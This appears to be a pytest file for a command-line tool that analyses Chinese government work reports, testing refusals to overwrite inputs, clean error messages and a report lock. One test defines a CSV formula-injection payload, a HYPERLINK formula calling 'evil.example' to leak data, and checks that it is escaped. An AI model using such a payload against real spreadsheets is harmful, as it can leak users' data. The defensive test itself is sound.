"""The command line fails with one clear message and an exit status, never a traceback, and never
writes over its inputs (GitHub issue 12). Every broken file is made here, in tmp_path."""

from __future__ import annotations

import csv
import hashlib
import os
import shutil

import pandas as pd
import pytest

from qzanalysis import paths
from qzanalysis.cli import main

DOC = "wr2020"


@pytest.fixture()
def small_corpus(tmp_path, one_document_corpus):
    """A copy of the shipped corpus reduced to the 2020 work report (quick to extract)."""
    return one_document_corpus(tmp_path / "corpus", DOC)


@pytest.fixture()
def data_copy(tmp_path, monkeypatch, small_corpus):
    """data/ as a tmp_path copy (raw = the small corpus), every paths constant pointed at it."""
    data = tmp_path / "data"
    shutil.copytree(small_corpus, data / "raw")
    shutil.copytree(paths.CURATED_DIR, data / "curated")
    shutil.copytree(paths.REFERENCE_DIR, data / "reference")
    shutil.copy(paths.INDICATORS_FILE, data / "indicators.yaml")
    (data / "reference" / "README.md").write_text("the reference README\n", encoding="utf-8")
    for name, value in {
        "DATA_DIR": data,
        "RAW_DIR": data / "raw",
        "CURATED_DIR": data / "curated",
        "REFERENCE_DIR": data / "reference",
        "INDICATORS_FILE": data / "indicators.yaml",
        "REVIEW_FILE": data / "curated" / "review.csv",
        "REFERENCE_FILE": data / "reference" / paths.REFERENCE_FILE.name,
        "CNY_USD_RATES_FILE": data / "reference" / paths.CNY_USD_RATES_FILE.name,
        "OUTPUTS_DIR": tmp_path / "outputs",
        "TABLES_DIR": tmp_path / "outputs" / "tables",
    }.items():
        monkeypatch.setattr(paths, name, value)
    return data


def _digest(folder) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _fails(argv, capsys, code) -> str:
    """Run ``qzanalysis argv``: the exit status is ``code``, stderr one message, no traceback."""
    assert main(argv) == code
    err = capsys.readouterr().err
    assert "Traceback" not in err and 'File "' not in err
    message = "\n".join(line for line in err.splitlines() if not line.startswith("warning: "))
    assert message.startswith(f"qzanalysis {argv[0]}")
    return message


# --------------------------------------------------------------------------------------------
# 1. Data loss
# --------------------------------------------------------------------------------------------


def test_extract_refuses_to_replace_the_manifest(data_copy, capsys):
    before = _digest(data_copy)
    out = data_copy / "raw" / "manifest.csv"
    err = _fails(["extract", "--out", str(out)], capsys, 2)
    assert f"refused: {out} is inside {data_copy / 'raw'}" in err
    assert "write to outputs/ or a folder outside data/ instead" in err
    assert _digest(data_copy) == before


def test_compare_refuses_to_write_into_the_reference_folder(data_copy, capsys):
    before = _digest(data_copy)
    err = _fails(["compare", "--out", str(data_copy / "reference")], capsys, 2)
    assert "input data the package never writes" in err
    assert _digest(data_copy) == before
    assert not (paths.TABLES_DIR).exists()  # refused before any work


@pytest.mark.parametrize("which", ["curated", "indicators", "review"])
def test_outputs_over_input_files_are_refused(data_copy, tmp_path, capsys, which):
    review = tmp_path / "my_review.csv"
    shutil.copy(data_copy / "curated" / "review.csv", review)
    out = {
        "curated": data_copy / "curated" / "new.csv",
        "indicators": data_copy / "indicators.yaml",
        "review": review,
    }[which]
    before = _digest(tmp_path)
    err = _fails(["extract", "--review", str(review), "--out", str(out)], capsys, 2)
    assert "refused" in err
    assert _digest(tmp_path) == before


def test_outputs_inside_the_corpus_given_are_refused(small_corpus, capsys):
    before = _digest(small_corpus)
    for argv in (
        ["extract", "--no-review", "--out", str(small_corpus / "manifest.csv")],
        ["compare", "--out", str(small_corpus / "tables")],
    ):
        err = _fails([*argv, "--corpus", str(small_corpus)], capsys, 2)
        assert "an input folder of this run (the corpus); choose another output path" in err
    assert _digest(small_corpus) == before


def test_extract_out_naming_a_folder_is_refused(small_corpus, tmp_path, capsys):
    folder = tmp_path / "tables"
    folder.mkdir()
    err = _fails(["extract", "--corpus", str(small_corpus), "--out", str(folder)], capsys, 2)
    assert f"{folder} is a folder; name the output file" in err
    assert not list(folder.iterdir())


def test_compare_out_naming_a_file_is_refused(small_corpus, tmp_path, capsys):
    file = tmp_path / "notes.txt"
    file.write_text("mine\n", encoding="utf-8")
    err = _fails(["compare", "--corpus", str(small_corpus), "--out", str(file)], capsys, 2)
    assert "is a file; name a folder" in err
    assert file.read_text(encoding="utf-8") == "mine\n"


# --------------------------------------------------------------------------------------------
# 2. Formula injection through the review file
# --------------------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?leak","点击查看")'


def test_a_formula_in_the_review_reaches_statements_csv_as_text(small_corpus, tmp_path, capsys):
    raw = tmp_path / "raw.csv"
    assert main(["extract", "--corpus", str(small_corpus), "--no-review", "--out", str(raw)]) == 0
    first = pd.read_csv(raw, encoding="utf-8-sig")["statement_id"].iloc[0]
    review = tmp_path / "review.csv"
    with open(review, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(
            [["action", "statement_id", "indicator_text"], ["correct", first, EVIL]]
        )
    out = tmp_path / "statements.csv"
    argv = ["extract", "--corpus", str(small_corpus), "--review", str(review), "--out", str(out)]
    assert main([*argv, "--parquet"]) == 0
    evil = EVIL
    table = pd.read_csv(out, encoding="utf-8-sig")
    cell = table.loc[table["statement_id"] == first, "indicator_text"].iloc[0]
    assert cell == "'" + evil
    assert not table["indicator_text"].dropna().str.match(r"[=+@\t\r]").any()
    parquet = pd.read_parquet(out.with_suffix(".parquet"))
    assert parquet.loc[parquet["statement_id"] == first, "indicator_text"].iloc[0] == evil
    assert pd.api.types.is_float_dtype(table["value"])  # numbers stay numbers


# --------------------------------------------------------------------------------------------
# 3. Tracebacks become messages
# --------------------------------------------------------------------------------------------

GOOD_ENTRY = """  - id: gdp
    name_zh: 地区生产总值
    synonyms: [生产总值]
    name_en: Gross domestic product
    polarity: higher_better
    category: economy
"""
OTHER_ENTRY = """  - id: gdp_growth
    name_zh: 经济增长
    synonyms: [{synonym}]
    name_en: Growth
    polarity: higher_better
    category: economy
"""
REGISTRIES = {
    "invalid YAML": "indicators:\n  - id: [unclosed\n",
    "duplicate id": "indicators:\n" + GOOD_ENTRY + GOOD_ENTRY,
    "synonym on two ids": "indicators:\n" + GOOD_ENTRY + OTHER_ENTRY.format(synonym="生产总值"),
    "missing field": "indicators:\n  - id: gdp\n    name_zh: 地区生产总值\n",
    "not a list": "indicators: 42\n",
}


@pytest.mark.parametrize("problem", [*REGISTRIES, "missing file"])
def test_a_broken_registry_is_one_message(data_copy, capsys, problem):
    registry = data_copy / "indicators.yaml"
    if problem == "missing file":
        registry.unlink()
    else:
        registry.write_text(REGISTRIES[problem], encoding="utf-8")
    for command in (["indicators"], ["extract", "--out", str(data_copy.parent / "s.csv")]):
        err = _fails(command, capsys, 1)
        assert str(registry) in err


def test_a_broken_review_file_is_one_message(small_corpus, tmp_path, capsys):
    review = tmp_path / "review.csv"
    review.write_text("action,statement_id\nbless,x\n", encoding="utf-8")
    argv = ["extract", "--corpus", str(small_corpus), "--review", str(review)]
    err = _fails([*argv, "--out", str(tmp_path / "s.csv")], capsys, 1)
    assert "the review file cannot be applied" in err and "review.csv" in err
    assert not (tmp_path / "s.csv").exists()


def test_a_broken_review_file_stops_indicators_and_compare(data_copy, capsys):
    (data_copy / "curated" / "review.csv").write_text("action\nbless\n", encoding="utf-8")
    for argv in (["indicators", "--unmapped"], ["compare"]):
        err = _fails(argv, capsys, 1)
        assert "the review file cannot be applied" in err


def test_a_broken_reference_file_is_one_message(data_copy, capsys):
    paths.REFERENCE_FILE.write_text("kind,value\ntarget,x\n", encoding="utf-8")
    err = _fails(["compare"], capsys, 1)
    assert "the reference figures cannot be used" in err and paths.REFERENCE_FILE.name in err


def test_a_missing_reference_file_is_one_message(data_copy, capsys):
    paths.REFERENCE_FILE.unlink()
    err = _fails(["compare"], capsys, 1)
    assert paths.REFERENCE_FILE.name in err


@pytest.mark.parametrize("command", ["corpus", "extract", "indicators", "compare", "report"])
def test_a_broken_corpus_is_one_message(data_copy, capsys, command):
    (data_copy / "raw" / "manifest.csv").write_text("doc_id,file\nx,y.txt\n", encoding="utf-8")
    argv = [command] + (["--unmapped"] if command == "indicators" else [])
    err = _fails(argv, capsys, 1)
    assert "the corpus cannot be used" in err


def test_review_tools_report_a_broken_corpus(tmp_path, capsys):
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "manifest.csv").write_text("doc_id,file\nx,y.txt\n", encoding="utf-8")
    err = _fails(["review", "draft", "--corpus", str(tmp_path / "c")], capsys, 1)
    assert err.startswith("qzanalysis review draft: the corpus cannot be used")


def test_broken_rates_are_one_message(tmp_path, monkeypatch, capsys):
    rates = tmp_path / "rates.csv"
    text = paths.CNY_USD_RATES_FILE.read_text(encoding="utf-8").replace("6.8974", "abc")
    rates.write_text(text, encoding="utf-8")
    monkeypatch.setattr(paths, "CNY_USD_RATES_FILE", rates)  # read at call time
    err = _fails(["compare", "--out", str(tmp_path / "out")], capsys, 1)
    assert "the 元/美元 rates cannot be used" in err
    assert "rates.csv line 2, column cny_per_usd: 'abc' is not a number" in err


def test_an_unreadable_document_is_one_message(small_corpus, tmp_path, capsys):
    doc = next(p for p in small_corpus.iterdir() if p.suffix == ".txt")
    doc.unlink()
    doc.mkdir()  # a folder where the document should be: reading it fails, even as root
    err = _fails(
        ["extract", "--corpus", str(small_corpus), "--out", str(tmp_path / "s")], capsys, 1
    )
    assert doc.name in err


def test_a_write_permission_error_is_one_message(small_corpus, tmp_path, capsys, monkeypatch):
    import qzanalysis.tables

    def denied(src, dst):
        raise PermissionError(13, "Permission denied", str(dst))

    monkeypatch.setattr(qzanalysis.tables.os, "replace", denied)
    out = tmp_path / "ro" / "statements.csv"
    err = _fails(["extract", "--corpus", str(small_corpus), "--out", str(out)], capsys, 1)
    assert f"cannot read or write {out}: Permission denied" in err
    assert "is the folder read-only?" in err
    assert not list((tmp_path / "ro").iterdir())  # the temporary file is gone too


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_output_folder_is_one_message(small_corpus, tmp_path, capsys):
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    try:
        err = _fails(["compare", "--corpus", str(small_corpus), "--out", str(ro)], capsys, 1)
    finally:
        ro.chmod(0o700)
    assert "Permission denied" in err


def test_an_output_under_a_file_is_one_message(small_corpus, tmp_path, capsys):
    (tmp_path / "file").write_text("x", encoding="utf-8")
    out = tmp_path / "file" / "sub"
    err = _fails(["compare", "--corpus", str(small_corpus), "--out", str(out)], capsys, 1)
    assert "cannot read or write" in err


# --------------------------------------------------------------------------------------------
# 4. Arguments first; 5. warnings as sentences; 6. the report lock
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["-1", "nan", "inf", "x"])
@pytest.mark.parametrize("command", ["compare", "report"])
def test_a_bad_tolerance_is_refused_before_any_work(monkeypatch, capsys, command, value):
    import qzanalysis.pipeline

    monkeypatch.setattr(qzanalysis.pipeline, "analyse", lambda *a, **kw: pytest.fail("analysed"))
    with pytest.raises(SystemExit) as info:
        main([command, f"--tolerance-pp={value}"])
    assert info.value.code == 2
    err = capsys.readouterr().err
    assert "--tolerance-pp" in err and "Traceback" not in err


def test_report_years_outside_the_corpus_are_refused(data_copy, monkeypatch, capsys):
    import qzanalysis.pipeline

    monkeypatch.setattr(qzanalysis.pipeline, "analyse", lambda *a, **kw: pytest.fail("analysed"))
    err = _fails(["report", "--years", "1990"], capsys, 2)
    assert "--years: 1990 outside 2019-" in err and "add a document" in err
    assert not paths.OUTPUTS_DIR.exists()


def test_report_refuses_while_another_report_holds_the_lock(data_copy, monkeypatch, capsys):
    import subprocess
    import sys

    import qzanalysis.pipeline

    monkeypatch.setattr(qzanalysis.pipeline, "analyse", lambda *a, **kw: pytest.fail("analysed"))
    lock = paths.OUTPUTS_DIR / ".cache" / "report.lock"
    lock.parent.mkdir(parents=True)
    holder = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    try:
        lock.write_text(f"{holder.pid}\n", encoding="ascii")
        err = _fails(["report", "--only", "overview"], capsys, 2)
    finally:
        holder.kill()
        holder.wait()
    assert (
        f"another qzanalysis report (pid {holder.pid}) is writing {paths.OUTPUTS_DIR}; "
        "wait for it or remove the lock"
    ) in err


def test_compare_warnings_are_plain_sentences(data_copy, capsys):
    _orphan_review(data_copy)
    assert main(["compare"]) == 0
    _assert_plain_warning(capsys.readouterr().err)


def _orphan_review(data_copy):
    review = data_copy / "curated" / "review.csv"
    review.write_text("action,statement_id\nconfirm,no_such_statement_0000\n", encoding="utf-8")


def _assert_plain_warning(err: str) -> None:
    lines = [line for line in err.splitlines() if "no_such_statement_0000" in line]
    assert len(lines) == 1 and lines[0].startswith("warning: ")
    assert "Warning:" not in err and ".py:" not in err and "warnings.warn" not in err


def test_extract_warnings_are_plain_sentences(data_copy, tmp_path, capsys):
    _orphan_review(data_copy)
    assert main(["extract", "--out", str(tmp_path / "s.csv")]) == 0
    _assert_plain_warning(capsys.readouterr().err)


def test_report_warnings_are_plain_sentences(data_copy, monkeypatch, capsys):
    import qzanalysis.report

    _orphan_review(data_copy)
    monkeypatch.setattr(qzanalysis.report, "run_reports", lambda specs, **kw: [])
    assert main(["report", "--only", "overview"]) == 0
    _assert_plain_warning(capsys.readouterr().err)
    assert not (paths.OUTPUTS_DIR / ".cache" / "report.lock").exists()  # released
